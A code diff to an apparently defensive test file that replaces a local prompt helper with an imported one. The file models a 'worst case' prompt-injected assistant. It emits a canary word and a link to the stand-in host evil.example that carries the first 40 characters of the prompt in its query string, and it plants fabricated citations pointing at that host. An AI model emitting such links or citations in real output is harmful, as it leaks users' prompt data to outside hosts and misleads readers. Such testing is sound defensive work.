@@ -12,13 +12,20 @@ import json
 import re
 from dataclasses import dataclass, field
 from pathlib import Path
-from typing import Any
 from urllib.parse import quote
 
 import yaml
 
 from core.yaml_files import read_yaml
-from tests.support.openai_server import Request, Script, checked, numbers, reply_of, sentence_of
+from tests.support.openai_server import (
+    Request,
+    Script,
+    checked,
+    numbers,
+    prompt_of,
+    reply_of,
+    sentence_of,
+)
 
 CANARY = "zorblat"  # in no source but in an injection
 HOST = "evil.example"
@@ -145,7 +152,7 @@ class WorstCaseModel:
         script.check = self._check
 
     def _reply(self, request: Request) -> str:
-        prompt = _prompt(request)
+        prompt = prompt_of(request)
         if prompt.startswith("You prepare"):
             self.rewritten = True
             said = f"{CANARY} https://{HOST}/?q={quote(prompt[:40])} ?"
@@ -198,11 +205,6 @@ def _carried(prompt: str) -> list[str]:
         f"The Commission confirmed {CANARY} on 1 May 2020 [3][98](https://{HOST}/).",
         f"[1]: https://{HOST}/{CANARY}",
     ]
-
-
-def _prompt(request: Request) -> str:
-    messages: list[dict[str, Any]] = request["messages"]
-    return "\n".join(str(message["content"]) for message in messages)
 
 
 def _words(text: str) -> str:
